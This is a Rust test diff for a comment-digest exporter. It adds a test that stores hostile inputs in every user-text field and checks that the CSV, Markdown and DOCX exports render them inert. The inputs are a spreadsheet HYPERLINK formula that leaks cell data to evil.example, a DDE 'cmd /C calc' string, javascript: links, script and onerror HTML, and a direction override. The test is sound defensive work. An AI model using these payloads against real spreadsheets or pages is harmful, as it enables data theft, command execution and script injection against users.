@@ -220,7 +220,7 @@ async fn the_docx_opens_with_its_headings_tables_and_comment_references() {
         "the same bytes every time"
     );
     let xml = document_xml(&bytes);
-    assert!(xml.contains("Comment digest: Test consultation"));
+    assert!(xml.contains("Comment digest: \u{2068}Test consultation\u{2069}"));
     assert!(
         xml.contains("w:val=\"Heading2\""),
         "headings are styled as headings"
@@ -431,4 +431,161 @@ async fn who_may_read_which_digest() {
             .unwrap_err(),
         AppError::Unauthorized
     );
+}
+
+/// What the hostile-export test stores in every field of user text: a formula, each of the
+/// other characters that start one, Markdown links and HTML, and a direction override.
+const HOSTILE: &[&str] = &[
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1",
+    "\r=1",
+    "[x](javascript:alert(1)) ![i](http://evil.example/i.png) <http://evil.example>",
+    "<script>alert(1)</script><img src=x onerror=alert(2)>",
+    "# heading | cell | * item _em_ `code` \\ &amp; ~~s~~",
+    "\u{202e}ecnarF \u{2069} \u{2067}x",
+];
+
+/// Stores `value` in every field of user text the digest shows, as an older row or an
+/// import could hold it (the forms refuse some of these now).
+async fn store_everywhere(w: &World, value: &str) {
+    use app::backend::entities::{consultation, disposition, tag, working_paper};
+    use sea_orm::{ColumnTrait, QueryFilter, sea_query::Expr};
+    let value = value.to_owned();
+    comment::Entity::update_many()
+        .col_expr(comment::Column::Body, Expr::value(value.clone()))
+        .col_expr(comment::Column::Quote, Expr::value(Some(value.clone())))
+        .col_expr(comment::Column::AuthorName, Expr::value(value.clone()))
+        .col_expr(
+            comment::Column::AuthorOrganisation,
+            Expr::value(Some(value.clone())),
+        )
+        .exec(&w.db)
+        .await
+        .unwrap();
+    disposition::Entity::update_many()
+        .col_expr(disposition::Column::Response, Expr::value(value.clone()))
+        .exec(&w.db)
+        .await
+        .unwrap();
+    tag::Entity::update_many()
+        .col_expr(tag::Column::NameEn, Expr::value(value.clone()))
+        .exec(&w.db)
+        .await
+        .unwrap();
+    consultation::Entity::update_many()
+        .col_expr(consultation::Column::Title, Expr::value(value.clone()))
+        .filter(consultation::Column::Slug.eq(SLUG))
+        .exec(&w.db)
+        .await
+        .unwrap();
+    working_paper::Entity::update_many()
+        .col_expr(working_paper::Column::Title, Expr::value(value.clone()))
+        .exec(&w.db)
+        .await
+        .unwrap();
+}
+
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+#[tokio::test]
+async fn hostile_text_is_data_in_every_export() {
+    use pulldown_cmark::{Event, Options, Parser, Tag};
+    let w = dataset().await;
+    for value in HOSTILE {
+        store_everywhere(&w, value).await;
+        let d = build(&w, &DigestFilter::default()).await;
+
+        // CSV: every cell of user text reads back as the value, with a `'` in front when it
+        // would start a formula; no cell at all starts one.
+        let bytes = csv_of(&w, &DigestFilter::default()).await;
+        let mut reader = csv::Reader::from_reader(&bytes[3..]);
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        assert_eq!(rows.len() as u64, d.total);
+        let expected = if value.starts_with(FORMULA_STARTS) {
+            format!("'{value}")
+        } else {
+            (*value).to_owned()
+        };
+        for row in &rows {
+            for (i, cell) in row.iter().enumerate() {
+                assert!(
+                    !cell.starts_with(FORMULA_STARTS),
+                    "{value:?}: column {} starts a formula: {cell:?}",
+                    CSV_COLUMNS[i]
+                );
+            }
+            assert_eq!(&row[18], expected, "body of {value:?}");
+            assert!(
+                row[7].is_empty() || row[7] == *expected,
+                "name {:?} of {value:?}",
+                &row[7]
+            );
+            assert!(
+                row[8].is_empty() || row[8] == *expected,
+                "organisation of {value:?}"
+            );
+            assert_eq!(&row[17], expected, "quote of {value:?}");
+        }
+        assert!(rows.iter().any(|r| r[16] == *expected), "response");
+
+        // Markdown: no HTML and no link or image at all (the digest makes none of its own),
+        // and the value is there as text.
+        let markdown = text(render(&d, Document::Markdown).unwrap());
+        let mut text_of_document = String::new();
+        for event in Parser::new_ext(&markdown, Options::ENABLE_TABLES) {
+            match event {
+                Event::Html(h) | Event::InlineHtml(h) => {
+                    panic!("{value:?}: HTML {h:?} in\n{markdown}")
+                }
+                Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
+                    panic!("{value:?}: a link to {dest_url:?} in\n{markdown}")
+                }
+                Event::Start(Tag::Heading { .. }) => text_of_document.push('\n'),
+                Event::Text(t) | Event::Code(t) => text_of_document.push_str(&t),
+                Event::SoftBreak | Event::HardBreak => text_of_document.push(' '),
+                _ => {}
+            }
+        }
+        let one_line = value.replace(['\r', '\n'], " ");
+        assert!(
+            text_of_document.contains(&format!(
+                "\u{2068}{}\u{2069}",
+                one_line.replace('\u{2069}', "")
+            )),
+            "{value:?} as text in\n{markdown}"
+        );
+        assert!(
+            text_of_document.contains("\nComment digest: \u{2068}"),
+            "the heading stays one heading: {markdown}"
+        );
+
+        // DOCX: well-formed XML that holds the value as text.
+        let xml = document_xml(&render(&d, Document::Docx).unwrap());
+        let mut reader = quick_xml::Reader::from_str(&xml);
+        let mut texts = String::new();
+        loop {
+            match reader.read_event() {
+                Ok(quick_xml::events::Event::Eof) => break,
+                Ok(quick_xml::events::Event::Text(t)) => {
+                    texts.push_str(&t.decode().unwrap());
+                }
+                Ok(quick_xml::events::Event::GeneralRef(r)) => {
+                    texts.push_str(&format!("&{};", r.decode().unwrap()));
+                }
+                Ok(_) => {}
+                Err(e) => panic!(
+                    "{value:?}: not well-formed at {}: {e}",
+                    reader.buffer_position()
+                ),
+            }
+        }
+        let unescaped = quick_xml::escape::unescape(&texts).unwrap();
+        assert!(
+            unescaped.contains(value.trim_start_matches(['\t', '\r'])),
+            "{value:?} in the document's text"
+        );
+    }
 }
